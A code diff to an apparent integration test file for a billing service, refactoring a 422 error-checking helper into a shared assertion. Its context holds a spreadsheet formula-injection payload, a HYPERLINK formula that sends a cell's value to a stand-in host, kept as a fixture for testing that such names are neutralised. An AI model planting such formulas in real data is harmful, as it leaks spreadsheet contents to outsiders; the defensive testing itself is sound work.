@@ -13,6 +13,7 @@ import httpx
 import pytest
 
 from tests.integration.billing.conftest import billing_get
+from tests.integration.enrollment.conftest import assert_problem
 from tests.scenarios import path
 
 HOSTILE = '=HYPERLINK("http://x.example/?a="&C2,"点此查看")'
@@ -30,11 +31,9 @@ def _client(world, service: str, key: str | None = None) -> httpx.Client:
 
 
 def _field_refused(response: httpx.Response, field: str) -> str:
-    assert response.status_code == 422, response.text
-    assert response.headers["content-type"] == "application/problem+json"
-    reasons = [e["reason"] for e in response.json()["errors"] if e["field"] == field]
-    assert reasons, f"no error names {field}: {response.text}"
-    return reasons[0]
+    """The reason a 422 problem gives for `field`."""
+    body = assert_problem(response, 422, field)
+    return next(e["reason"] for e in body["errors"] if e["field"] == field)
 
 
 # --- 5. a formula typed as a facility's name never reaches a spreadsheet as a formula ------------------------------
